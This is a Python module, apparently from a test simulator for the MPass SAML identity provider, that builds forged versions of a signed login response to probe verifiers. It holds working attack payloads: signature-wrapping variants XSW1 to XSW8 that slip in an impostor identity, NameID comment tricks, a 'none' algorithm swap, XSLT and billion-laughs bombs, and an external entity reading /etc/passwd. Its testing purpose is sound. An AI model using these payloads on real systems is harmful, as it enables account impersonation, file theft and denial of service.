"""Attacks on a properly signed message: wrapping (XSW1 to XSW8 as commonly numbered), tricks of names, bombs.

Each takes the finished tree and returns the bytes that an attacker would post. Wherever a person is put in, it is
EVIL, so that a verifier that reads the wrong part lets in somebody else than the one MPass vouched for.
"""

import copy
from collections.abc import Callable, Mapping
from dataclasses import replace

from lxml import etree

from simulators.mpass.messages import SAML, SAMLP
from simulators.mpass.signing import DS, Signer, ds, sign

EVIL = "2099310107075"
XSLT = "http://www.w3.org/1999/XSL/Transform"
ASSERTION = f"{{{SAML}}}Assertion"
NAME_ID = f"{{{SAML}}}NameID"


def only(root: etree._Element, path: str) -> etree._Element:
    """Return the element that must be there. Raises LookupError."""
    found = root.find(path)
    if found is None:
        raise LookupError(path)
    return found


def with_other_last_digit(digits: str) -> str:
    """Return the number with a check digit that does not hold."""
    return digits[:-1] + str((int(digits[-1]) + 1) % 10)


def _evil_copy(element: etree._Element, *, new_id: str = "_evil") -> etree._Element:
    """Return a copy that speaks of the wrong person, under another identifier."""
    evil = copy.deepcopy(element)
    evil.set("ID", new_id)
    only(evil, f".//{NAME_ID}").text = EVIL
    return evil


def _without_signature(element: etree._Element) -> etree._Element:
    bare = copy.deepcopy(element)
    bare.remove(only(bare, ds("Signature")))
    return bare


def _xsw1(root: etree._Element) -> bytes:
    evil = _evil_copy(root)
    only(evil, ds("Signature")).append(_without_signature(root))
    return etree.tostring(evil)


def _xsw2(root: etree._Element) -> bytes:
    evil = _evil_copy(root)
    only(evil, ds("Signature")).addprevious(_without_signature(root))
    return etree.tostring(evil)


def _xsw3(root: etree._Element) -> bytes:
    assertion = only(root, ASSERTION)
    assertion.addprevious(_evil_copy(_without_signature(assertion)))
    return etree.tostring(root)


def _xsw4(root: etree._Element) -> bytes:
    assertion = only(root, ASSERTION)
    evil = _evil_copy(_without_signature(assertion))
    root.replace(assertion, evil)
    evil.append(assertion)
    return etree.tostring(root)


def _xsw5(root: etree._Element) -> bytes:
    assertion = only(root, ASSERTION)
    root.replace(assertion, _evil_copy(assertion))
    root.append(_without_signature(assertion))
    return etree.tostring(root)


def _xsw6(root: etree._Element) -> bytes:
    assertion = only(root, ASSERTION)
    evil = _evil_copy(assertion)
    root.replace(assertion, evil)
    only(evil, ds("Signature")).append(_without_signature(assertion))
    return etree.tostring(root)


def _xsw7(root: etree._Element) -> bytes:
    assertion = only(root, ASSERTION)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(_evil_copy(_without_signature(assertion), new_id=str(assertion.get("ID"))))
    assertion.addprevious(extensions)
    return etree.tostring(root)


def _xsw8(root: etree._Element) -> bytes:
    assertion = only(root, ASSERTION)
    evil = _evil_copy(assertion)
    root.replace(assertion, evil)
    holder = etree.SubElement(only(evil, ds("Signature")), ds("Object"))
    holder.append(_without_signature(assertion))
    return etree.tostring(root)


def _object_in_response(root: etree._Element) -> bytes:
    evil = _evil_copy(root)
    etree.SubElement(only(evil, ds("Signature")), ds("Object")).append(_without_signature(root))
    return etree.tostring(evil)


def _changed(root: etree._Element) -> bytes:
    only(root, f".//{NAME_ID}").text = EVIL
    return etree.tostring(root)


def _comment_in_name_id(root: etree._Element) -> bytes:
    name_id = only(root, f".//{NAME_ID}")
    text = name_id.text or ""
    name_id.text = text[:6]
    mark = etree.Comment("x")
    mark.tail = text[6:]
    name_id.append(mark)
    return etree.tostring(root)


def _instruction_in_name_id(root: etree._Element) -> bytes:
    name_id = only(root, f".//{NAME_ID}")
    text = name_id.text or ""
    name_id.text = text[:6]
    mark = etree.ProcessingInstruction("x", "y")
    mark.tail = text[6:]
    name_id.append(mark)
    return etree.tostring(root)


def _same_id_twice(root: etree._Element) -> bytes:
    only(root, ASSERTION).set("ID", str(root.get("ID")))
    return etree.tostring(root)


def _id_in_other_case(root: etree._Element) -> bytes:
    only(root, f"{{{SAMLP}}}Status").set("Id", str(root.get("ID")))
    return etree.tostring(root)


def _id_in_other_namespace(root: etree._Element) -> bytes:
    only(root, ASSERTION).set(f"{{{SAMLP}}}ID", str(root.get("ID")))
    return etree.tostring(root)


def _assertion_without_namespace(root: etree._Element) -> bytes:
    evil = etree.SubElement(root, "Assertion")
    etree.SubElement(evil, "NameID").text = EVIL
    return etree.tostring(root)


def _foreign_namespace(root: etree._Element) -> bytes:
    etree.SubElement(root, "{urn:example:other}Assertion", nsmap={"other": "urn:example:other"})
    return etree.tostring(root)


def _two_signatures(root: etree._Element) -> bytes:
    signature = only(root, ds("Signature"))
    signature.addnext(copy.deepcopy(signature))
    return etree.tostring(root)


def _two_references(root: etree._Element) -> bytes:
    reference = only(root, f"{ds('Signature')}/{ds('SignedInfo')}/{ds('Reference')}")
    reference.addnext(copy.deepcopy(reference))
    return etree.tostring(root)


def _empty_reference(root: etree._Element) -> bytes:
    only(root, f"{ds('Signature')}/{ds('SignedInfo')}/{ds('Reference')}").set("URI", "")
    return etree.tostring(root)


def _method(algorithm: str) -> Callable[[etree._Element], bytes]:
    def changed(root: etree._Element) -> bytes:
        only(root, f"{ds('Signature')}/{ds('SignedInfo')}/{ds('SignatureMethod')}").set("Algorithm", algorithm)
        return etree.tostring(root)

    return changed


def _key_of_the_attacker(root: etree._Element) -> bytes:
    only(root, f".//{ds('X509Certificate')}").text = "AAAA"
    only(root, f".//{NAME_ID}").text = EVIL
    return etree.tostring(root)


def _xslt_bomb(root: etree._Element) -> bytes:
    transforms = only(root, f".//{ds('Transforms')}")
    bomb = etree.SubElement(transforms, ds("Transform"), Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116")
    sheet = etree.SubElement(bomb, f"{{{XSLT}}}stylesheet", nsmap={"xsl": XSLT}, version="1.0")
    template = etree.SubElement(sheet, f"{{{XSLT}}}template", match="/")
    previous = "'aaaaaaaa'"
    for number in range(22):
        doubled = {"name": f"v{number}", "select": f"concat({previous},{previous})"}
        etree.SubElement(template, f"{{{XSLT}}}variable", doubled)
        previous = f"$v{number}"
    etree.SubElement(template, f"{{{XSLT}}}value-of", select=f"string-length({previous})")
    return etree.tostring(root)


def _billion_laughs(root: etree._Element) -> bytes:
    entities = ['<!ENTITY a0 "ha">']
    entities += [f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 10)]
    head = f"<!DOCTYPE x [{''.join(entities)}]>".encode()
    return head + etree.tostring(root).replace(b"</saml:NameID>", b"&a9;</saml:NameID>", 1)


def _external_entity(root: etree._Element) -> bytes:
    head = b'<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]>'
    return head + etree.tostring(root).replace(b"</saml:NameID>", b"&file;</saml:NameID>", 1)


def _huge(root: etree._Element) -> bytes:
    only(root, f".//{{{SAML}}}AttributeValue").text = "a" * 200_000
    return etree.tostring(root)


def _deep(root: etree._Element) -> bytes:
    place = only(root, f".//{{{SAML}}}AttributeValue")
    for _level in range(40):
        place = etree.SubElement(place, f"{{{SAML}}}AttributeValue")
    return etree.tostring(root)


def _many_elements(root: etree._Element) -> bytes:
    place = only(root, f"{ASSERTION}/{{{SAML}}}AttributeStatement")
    for number in range(2000):
        etree.SubElement(place, f"{{{SAML}}}Attribute", Name=str(number))
    return etree.tostring(root)


def _many_namespaces(root: etree._Element) -> bytes:
    many = "".join(f' xmlns:n{number}="{SAML}"' for number in range(1500)).encode()
    return etree.tostring(root).replace(b"<saml:Subject", b"<saml:Subject" + many, 1)


def _long_prefix_list(root: etree._Element) -> bytes:
    ec = "http://www.w3.org/2001/10/xml-exc-c14n#"
    method = only(root, f".//{ds('CanonicalizationMethod')}")
    prefixes = " ".join(f"p{number}" for number in range(10_000))
    etree.SubElement(method, f"{{{ec}}}InclusiveNamespaces", nsmap={"ec": ec}, PrefixList=prefixes)
    return etree.tostring(root)


def _utf16(root: etree._Element) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-16"?>' + etree.tostring(root).decode()).encode("utf-16")


def void_canonical_form(root: etree._Element, signer: Signer) -> bytes:
    """Return a message whose canonical form some libraries cannot make and then take for empty.

    The signature is genuine, but over nothing; a relative namespace breaks the canonical form.
    """
    sign(root, replace(signer), digest_of=b"")
    only(root, f".//{NAME_ID}").text = EVIL
    text = etree.tostring(root)
    return text.replace(b"<samlp:Response ", b'<samlp:Response xmlns:void="1" ', 1)


ON_RESPONSE: Mapping[str, Callable[[etree._Element], bytes]] = {
    "xsw1": _xsw1,
    "xsw2": _xsw2,
    "object_in_response": _object_in_response,
    "changed": _changed,
    "comment_in_name_id": _comment_in_name_id,
    "instruction_in_name_id": _instruction_in_name_id,
    "same_id_twice": _same_id_twice,
    "id_in_other_case": _id_in_other_case,
    "id_in_other_namespace": _id_in_other_namespace,
    "assertion_without_namespace": _assertion_without_namespace,
    "foreign_namespace": _foreign_namespace,
    "two_signatures": _two_signatures,
    "two_references": _two_references,
    "empty_reference": _empty_reference,
    "no_algorithm": _method(f"{DS}none"),
    "key_of_the_attacker": _key_of_the_attacker,
    "xslt_bomb": _xslt_bomb,
    "billion_laughs": _billion_laughs,
    "external_entity": _external_entity,
    "huge": _huge,
    "deep": _deep,
    "many_elements": _many_elements,
    "many_namespaces": _many_namespaces,
    "long_prefix_list": _long_prefix_list,
    "utf16": _utf16,
}
ON_ASSERTION: Mapping[str, Callable[[etree._Element], bytes]] = {
    "xsw3": _xsw3,
    "xsw4": _xsw4,
    "xsw5": _xsw5,
    "xsw6": _xsw6,
    "xsw7": _xsw7,
    "xsw8": _xsw8,
}
